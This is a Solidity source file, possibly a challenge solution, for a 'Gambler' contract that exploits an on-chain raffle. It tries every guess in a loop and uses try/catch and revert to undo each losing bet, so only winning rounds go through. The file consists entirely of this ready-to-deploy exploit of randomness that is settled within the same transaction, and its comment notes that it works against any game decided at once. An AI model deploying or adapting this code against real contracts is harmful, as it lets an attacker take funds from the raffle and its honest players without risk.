// SPDX-License-Identifier: MIT
pragma solidity 0.8.21;

interface ITriedRaffle {
    function play(uint256 guess) external payable;
    function streak(address player) external view returns (uint256);
}

/// Tries every cell, and takes back each round that does not win. Works wherever a round is decided at once.
contract Gambler {
    ITriedRaffle private constant RAFFLE = ITriedRaffle(0x4aFF1E00000000000000000000000000000B33B3);

    function play() external payable {
        for (uint256 guess = 0; guess < 10; guess++) {
            try this.tryCell(guess, msg.value) {
                return;
            } catch {}
        }
        revert("Gambler: no cell wins");
    }

    function tryCell(uint256 guess, uint256 stake) external {
        uint256 streak = RAFFLE.streak(address(this));
        uint256 purse = address(this).balance;
        RAFFLE.play{value: stake}(guess);
        // The last round of a row sets the streak back, and pays.
        bool isWon = RAFFLE.streak(address(this)) > streak || address(this).balance + stake > purse;
        require(isWon, "Gambler: not this one");
    }

    receive() external payable {}
}
